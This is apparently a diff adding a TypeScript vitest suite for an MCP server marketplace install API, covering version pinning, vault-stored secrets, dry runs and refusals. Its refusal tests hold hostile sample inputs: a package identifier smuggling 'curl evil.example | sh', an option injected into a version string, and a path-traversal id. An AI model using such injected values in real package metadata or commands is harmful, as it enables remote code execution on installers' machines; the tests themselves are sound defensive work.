@@ -1,0 +1,242 @@
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { QuickClock } from '../../e2e/marketplace/quick_clock.ts';
+import { type RegistryServer, startRegistryServer } from '../../e2e/marketplace/registry_server.ts';
+import { addUser, type InProcess, startInProcess } from '../../e2e/runtimes/in_process.ts';
+import { errorBody } from '../../shared/wire/errors.ts';
+import {
+  marketplaceInstallInput,
+  type MarketplaceInstallInput,
+  marketplaceInstallReply,
+  marketplacePage,
+  marketplacePreviewReply,
+} from '../../shared/wire/marketplace.ts';
+import { nodeOutbound } from '../entries/node_outbound.ts';
+import { install } from './install.ts';
+
+const MINUTE_MS = 60_000;
+const NAME = 'io.example.acme/weather';
+const SECRET = 'planted-secret-value-that-stands-nowhere';
+const apiKey = { name: 'API_KEY', description: 'Key of the service', isRequired: true, isSecret: true };
+const region = { name: 'REGION', description: 'Where', isRequired: false, default: 'eu' };
+const npm = {
+  registryType: 'npm',
+  identifier: '@acme/weather',
+  version: '1.2.3',
+  transport: { type: 'stdio' },
+  environmentVariables: [apiKey, region],
+};
+const remote = {
+  type: 'streamable-http',
+  url: 'https://weather.example.com/mcp',
+  headers: [
+    { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isRequired: true, isSecret: true } } },
+  ],
+};
+
+let registry: RegistryServer;
+let control: InProcess;
+let clock: QuickClock;
+beforeEach(async () => {
+  registry = await startRegistryServer({ entries: 5 });
+  clock = new QuickClock();
+  control = await startInProcess({
+    clock,
+    outbound: nodeOutbound({ isLocal: true, pinned: new Map(), timeoutMs: 2_000 }),
+    registry: { url: registry.url },
+  });
+  publish({ packages: [npm], remotes: [remote] });
+});
+afterEach(async () => {
+  await control.stop();
+  await registry.stop();
+});
+
+function publish(server: Readonly<Record<string, unknown>>, name = NAME): void {
+  const whole = { name, description: 'The weather', version: '1.2.3', ...server };
+  registry.publish({ server: whole, status: 'active', updatedAt: new Date(clock.now()).toISOString() });
+}
+
+const post = (body?: unknown, id = NAME, action = 'install') =>
+  control.asUser('POST', `/v1/marketplace/servers/${id}/${action}`, body);
+async function installed(body?: unknown, id = NAME) {
+  const reply = await post(body, id);
+  return { status: reply.status, ...marketplaceInstallReply.parse(await reply.json()) };
+}
+async function refused(body?: unknown, id = NAME) {
+  const reply = await post(body, id);
+  return { status: reply.status, ...errorBody.parse(await reply.json()).error };
+}
+const servers = async () => (await control.asUser('GET', '/v1/mcp-servers')).text();
+
+describe('an install', () => {
+  test('takes npm first, pins the version, and refers to what is stored next', async () => {
+    const { status, server, required_credentials } = await installed();
+    expect(status).toBe(201);
+    expect(server).toMatchObject({
+      name: 'weather',
+      registry_id: NAME,
+      version: '1.2.3',
+      status: 'stopped',
+      mode: 'local',
+      command: ['npx', '-y', '@acme/weather@1.2.3'],
+      env: { API_KEY: `vault://mcp-servers/${server?.id}/API_KEY`, REGION: 'eu' },
+    });
+    expect(required_credentials).toEqual([
+      { name: 'API_KEY', description: 'Key of the service', required: true, secret: true },
+    ]);
+    const page = await control.asUser('GET', '/v1/marketplace/servers?q=acme');
+    expect(marketplacePage.parse(await page.json()).items[0]?.installed).toBe(true);
+    const anonymous = await control.send('/v1/marketplace/servers?q=acme');
+    expect(marketplacePage.parse(await anonymous.json()).items[0]?.installed).toBe(false);
+  });
+
+  test('again changes nothing, and needs no registry', async () => {
+    const first = await installed();
+    await registry.stop();
+    clock.move(60 * MINUTE_MS);
+    const again = await installed();
+    expect([again.status, again.server?.id, again.required_credentials.map(({ name }) => name)]).toEqual([
+      200,
+      first.server?.id,
+      ['API_KEY'],
+    ]);
+    await registry.start();
+  });
+
+  test('many times at once makes one server', async () => {
+    const all = await Promise.all([1, 2, 3, 4, 5].map(() => installed()));
+    expect(new Set(all.map(({ server }) => server?.id)).size).toBe(1);
+    expect(all.filter(({ status }) => status === 201)).toHaveLength(1);
+  });
+
+  test('keeps a secret that is given in the vault alone', async () => {
+    const { server, required_credentials } = await installed({ inputs: { API_KEY: SECRET, REGION: 'us' } });
+    expect(server?.env).toEqual({ API_KEY: `vault://mcp-servers/${server?.id}/API_KEY`, REGION: 'us' });
+    expect(server?.credentials).toMatchObject([{ name: 'API_KEY', set: true }]);
+    expect(required_credentials).toEqual([]);
+    expect(await servers()).not.toContain(SECRET);
+    expect((await control.databaseBytes()).includes(SECRET)).toBe(false);
+  });
+
+  test('of a remote server has its URL and the header', async () => {
+    const { server, required_credentials } = await installed({ remote: 0 });
+    expect(server).toMatchObject({
+      mode: 'remote',
+      url: 'https://weather.example.com/mcp',
+      transport: 'streamable-http',
+      headers: { Authorization: `Bearer vault://mcp-servers/${server?.id}/token` },
+    });
+    expect(required_credentials).toMatchObject([{ name: 'token', required: true }]);
+  });
+
+  test('under another name makes another server, and a name that is taken gets a number', async () => {
+    await control.asUser('POST', '/v1/mcp-servers', { name: 'weather', command: ['/usr/bin/true'] });
+    expect((await installed()).server?.name).toBe('weather-2');
+    expect((await installed({ name: 'work' })).server?.name).toBe('work');
+    expect(await refused({ name: 'weather' })).toMatchObject({ status: 409, code: 'name_taken' });
+  });
+
+  test('of an earlier version is pinned to that', async () => {
+    publish({ version: '2.0.0', packages: [{ ...npm, version: '2.0.0' }] });
+    expect((await installed({ version: '1.2.3' })).server?.version).toBe('1.2.3');
+    expect(await refused({ version: '3.0.0', name: 'other' })).toMatchObject({ status: 404 });
+  });
+
+  test('that is only tried installs nothing', async () => {
+    expect(await installed({ dry_run: true })).toMatchObject({ status: 200, server: null });
+    expect(await servers()).not.toContain('weather');
+  });
+
+  test('is of who asks: another one installs for themselves', async () => {
+    await installed();
+    const other = await addUser(control.context, null);
+    const theirs = await install(control.context, other, NAME, {});
+    expect(theirs).toMatchObject({ ok: true, value: { value: { isNew: true } } });
+    const member = await addUser(control.context, other.enterpriseId);
+    expect(await install(control.context, member, NAME, { owner: 'enterprise' })).toMatchObject({
+      error: { code: 'admin_required' },
+    });
+  });
+});
+
+describe('an install is refused', () => {
+  test.each([
+    ['a command line in the name of the package', { identifier: 'x; curl evil.example | sh' }],
+    ['a shell as its runtime', { runtimeHint: 'bash' }],
+    ['a version that is none', { version: '1.0.0 --package=evil' }],
+    ['an option of the runner', { runtimeArguments: [{ type: 'named', name: '--call', value: 'id' }] }],
+  ])('with %s', async (_, change) => {
+    publish({ packages: [{ ...npm, ...change }] });
+    expect(await refused()).toMatchObject({ status: 422, code: 'package_not_installable' });
+    expect(await servers()).not.toContain('weather');
+  });
+
+  test('while inputs are missing, and says which', async () => {
+    const packageArguments = [
+      { type: 'positional', valueHint: 'directory', isRequired: true, description: 'Where to look' },
+    ];
+    publish({ packages: [{ ...npm, packageArguments }] });
+    const error = await refused();
+    expect(error).toMatchObject({ status: 422, code: 'inputs_required', details: { inputs: [{ name: 'directory' }] } });
+    expect((await installed({ inputs: { directory: '/tmp/x' } })).server?.command).toEqual([
+      'npx',
+      '-y',
+      '@acme/weather@1.2.3',
+      '/tmp/x',
+    ]);
+  });
+
+  test('with inputs that the entry does not have, or a reference as a value', async () => {
+    expect(await refused({ inputs: { NOTHING: 'x' } })).toMatchObject({ code: 'inputs_required' });
+    const value = 'vault://mcp-servers/mcp_00000000000000000000000000/API_KEY';
+    expect(await refused({ inputs: { REGION: value } })).toMatchObject({ code: 'inputs_required' });
+  });
+
+  test('without an entry', async () => {
+    expect(await refused(undefined, 'io.example/none')).toMatchObject({ status: 404, code: 'not_found' });
+    expect(await refused(undefined, '..%2f..%2fetc')).toMatchObject({ status: 404, code: 'not_found' });
+  });
+
+  test('when the registry is down, whatever it said before', async () => {
+    await control.send(`/v1/marketplace/servers/${NAME}`);
+    await registry.stop();
+    expect((await installed({ dry_run: true })).status).toBe(200);
+    clock.move(16 * MINUTE_MS);
+    expect(await refused()).toMatchObject({ status: 502, code: 'registry_unavailable' });
+    expect((await control.send(`/v1/marketplace/servers/${NAME}`)).status).toBe(200);
+    await registry.start();
+  });
+
+  test.each([
+    ['both a package and a remote', { package: 0, remote: 0 }],
+    ['a field that is none', { command: ['sh'] }],
+    ['a name that is none', { name: 'No Name' }],
+  ])('with %s', async (_, body) => {
+    expect(await refused(body)).toMatchObject({ status: 400, code: 'invalid_input' });
+  });
+
+  test('without sign-in', async () => {
+    const reply = await control.send(`/v1/marketplace/servers/${NAME}/install`, { method: 'POST' });
+    expect(reply.status).toBe(401);
+  });
+});
+
+test('a preview shows what is started, asked for and warned of, and no value of a secret', async () => {
+  const reply = await post({ inputs: { API_KEY: SECRET } }, NAME, 'preview');
+  const text = await reply.text();
+  const shown = marketplacePreviewReply.parse(JSON.parse(text));
+  expect(shown.outcome).toMatchObject({
+    command: ['npx', '-y', '@acme/weather@1.2.3'],
+    env: { API_KEY: 'vault://mcp-servers/{id}/API_KEY', REGION: 'eu' },
+  });
+  expect(shown.preview.inputs.map(({ name, secret }) => [name, secret])).toEqual([
+    ['API_KEY', true],
+    ['REGION', false],
+  ]);
+  expect(text).not.toContain(SECRET);
+});
+
+test('the body of an install may be left out', () => {
+  const empty: MarketplaceInstallInput = marketplaceInstallInput.parse({});
+  expect(empty).toEqual({});
+});
